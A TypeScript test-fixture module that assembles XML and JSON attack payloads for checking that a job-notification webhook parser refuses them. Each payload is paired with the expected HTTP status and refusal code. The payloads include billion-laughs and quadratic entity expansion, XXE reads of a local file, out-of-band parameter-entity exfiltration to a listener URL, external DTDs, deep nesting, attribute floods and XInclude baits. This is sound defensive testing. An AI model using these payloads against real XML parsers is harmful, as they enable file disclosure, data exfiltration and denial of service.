import { readFileSync } from 'node:fs';

const fixture = (name: string): string => readFileSync(new URL(`../../fixtures/${name}`, import.meta.url), 'utf8');
const createdXml = fixture('talentlink/job.created--cpam-val-de-marne.xml');
const createdJson = fixture('talentlink/job.created--cpam-val-de-marne.json');
const CREATED_ID = 'evt-2027-000107';

/**
 * The classic XML (and JSON) attacks, each built around a real notification (`job.created` of
 * CPAM Val-de-Marne) so that it goes through every check up to the
 * parser. `listener` is the address of a local HTTP listener that must never be called, and
 * `secretFile` a local file that must never be read.
 */

export interface Attack {
  name: string;
  contentType: string;
  body: Buffer;
  /** The answer expected: status and refusal code. */
  status: number;
  code: string;
}

const DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>\n';
const TITLE = 'Responsable du service contentieux et recours contre tiers';

/** The fixture with a fresh id, a DTD after the declaration and `title` in `<openingName>`. */
function notification(id: string, options: { dtd?: string; title?: string; inJob?: string } = {}): string {
  let text = createdXml.replace(CREATED_ID, id);
  if (options.title !== undefined) text = text.replace(TITLE, options.title);
  if (options.inJob !== undefined)
    text = text.replace('<status>OPEN</status>', `${options.inJob}\n    <status>OPEN</status>`);
  if (options.dtd !== undefined) text = text.replace(DECLARATION, `${DECLARATION}${options.dtd}\n`);
  if (!text.includes(id)) throw new Error('attack fixture: the notification id was not replaced');
  return text;
}

const xml = (name: string, text: string, status: number, code: string): Attack => ({
  name,
  contentType: 'application/xml; charset=utf-8',
  body: Buffer.from(text, 'utf8'),
  status,
  code,
});

const BILLION_LAUGHS = [
  '<!DOCTYPE notification [',
  '  <!ENTITY lol "lol">',
  ...Array.from({ length: 9 }, (_, i) => `  <!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`),
  ']>',
].join('\n');

export const NESTING_LEVELS = 100_000;
export const MILLION = 1_000_000;

export function xmlAttacks(listener: string, secretFile: string, idOf: (name: string) => string): Attack[] {
  const attacks: Attack[] = [
    xml(
      'billion laughs (9 levels of 10 entity references)',
      notification(idOf('laughs'), { dtd: BILLION_LAUGHS, title: '&lol9;' }),
      400,
      'DOCTYPE_FORBIDDEN',
    ),
    xml(
      'quadratic blow-up (50,000-char entity referenced 20,000 times)',
      notification(idOf('quadratic'), {
        dtd: `<!DOCTYPE notification [<!ENTITY a "${'a'.repeat(50_000)}">]>`,
        title: '&a;'.repeat(20_000),
      }),
      400,
      'DOCTYPE_FORBIDDEN',
    ),
    xml(
      'external entity (XXE) on a local file',
      notification(idOf('xxe-file'), {
        dtd: `<!DOCTYPE notification [<!ENTITY xxe SYSTEM "file://${secretFile}">]>`,
        title: '&xxe;',
      }),
      400,
      'DOCTYPE_FORBIDDEN',
    ),
    xml(
      'external entity (XXE) on a URL',
      notification(idOf('xxe-url'), {
        dtd: `<!DOCTYPE notification [<!ENTITY xxe SYSTEM "${listener}/xxe">]>`,
        title: '&xxe;',
      }),
      400,
      'DOCTYPE_FORBIDDEN',
    ),
    xml(
      'parameter entities (out-of-band exfiltration)',
      notification(idOf('param'), {
        dtd:
          `<!DOCTYPE notification [<!ENTITY % file SYSTEM "file://${secretFile}"><!ENTITY % remote ` +
          `SYSTEM "${listener}/evil.dtd">%remote;%send;]>`,
        title: '&exfil;',
      }),
      400,
      'DOCTYPE_FORBIDDEN',
    ),
    xml(
      'external DTD subset',
      notification(idOf('external-dtd'), { dtd: `<!DOCTYPE notification SYSTEM "${listener}/notification.dtd">` }),
      400,
      'DOCTYPE_FORBIDDEN',
    ),
    xml(
      'DOCTYPE in lower case with spaces',
      notification(idOf('lower'), {
        dtd: `<! doctype notification [<!entity xxe SYSTEM "${listener}/lower">]>`,
        title: '&xxe;',
      }),
      400,
      'DOCTYPE_FORBIDDEN',
    ),
    xml(
      'ENTITY declaration without DOCTYPE',
      notification(idOf('bare-entity'), { inJob: `<!ENTITY xxe SYSTEM "${listener}/bare">` }),
      400,
      'DOCTYPE_FORBIDDEN',
    ),
    xml(
      'entity references without their DTD',
      notification(idOf('no-dtd'), { title: '&lol9;&xxe;' }),
      400,
      'MALFORMED_XML',
    ),
    xml(
      `${NESTING_LEVELS.toLocaleString('en-US')} levels of nesting`,
      notification(idOf('deep'), { inJob: `${'<x>'.repeat(NESTING_LEVELS)}${'</x>'.repeat(NESTING_LEVELS)}` }),
      400,
      'TOO_DEEP',
    ),
    xml(
      'a million attributes on one element (beyond the 1 MiB body limit)',
      notification(idOf('million'), {
        inJob: `<x${Array.from({ length: MILLION }, (_, i) => ` a${i}=""`).join('')}/>`,
      }),
      413,
      'TOO_LARGE',
    ),
    xml(
      'as many attributes on one element as fit in 1 MiB',
      notification(idOf('attributes-one'), {
        inJob: `<x${Array.from({ length: 90_000 }, (_, i) => ` a${i}=""`).join('')}/>`,
      }),
      400,
      'TOO_MANY_ATTRIBUTES',
    ),
    xml(
      'as many attributes spread over elements as fit in 1 MiB',
      notification(idOf('attributes-spread'), {
        inJob: Array.from(
          { length: 3_000 },
          () => `<x${Array.from({ length: 40 }, (_, i) => ` a${i}=""`).join('')}/>`,
        ).join(''),
      }),
      400,
      'TOO_MANY_ATTRIBUTES',
    ),
  ];
  const json = createdJson.replace(CREATED_ID, idOf('json-deep'));
  attacks.push({
    name: `${NESTING_LEVELS.toLocaleString('en-US')} levels of JSON nesting`,
    contentType: 'application/json; charset=utf-8',
    body: Buffer.from(
      json.replace(/\}\s*$/, `, "extra": ${'['.repeat(NESTING_LEVELS)}${']'.repeat(NESTING_LEVELS)}}`),
      'utf8',
    ),
    status: 400,
    code: 'TOO_DEEP',
  });
  return attacks;
}

/**
 * Valid notifications that name outside addresses without a DTD (XInclude, a schema location,
 * URLs in field values). They may well be accepted: what matters is that nothing, neither the
 * webhook route nor the pipeline behind it, ever calls those addresses.
 */
export function outboundBaits(
  listener: string,
  idOf: (name: string) => string,
): { name: string; id: string; body: Buffer }[] {
  const baits = [
    {
      name: 'XInclude element',
      id: idOf('xinclude'),
      inJob: `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${listener}/xinclude" parse="text"/>`,
    },
    {
      name: 'xsi:schemaLocation',
      id: idOf('schema-location'),
      root:
        ` xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" ` +
        `xsi:schemaLocation="urn:talentlink-style:notification:1 ${listener}/schema.xsd"`,
    },
    { name: 'URLs as field values', id: idOf('url-values'), title: `${listener}/title` },
  ];
  return baits.map((bait) => {
    let text = notification(bait.id, {
      ...(bait.inJob ? { inJob: bait.inJob } : {}),
      ...(bait.title ? { title: bait.title } : {}),
    });
    if (bait.root)
      text = text.replace(
        '<notification xmlns="urn:talentlink-style:notification:1"',
        `<notification xmlns="urn:talentlink-style:notification:1"${bait.root}`,
      );
    return { name: bait.name, id: bait.id, body: Buffer.from(text, 'utf8') };
  });
}
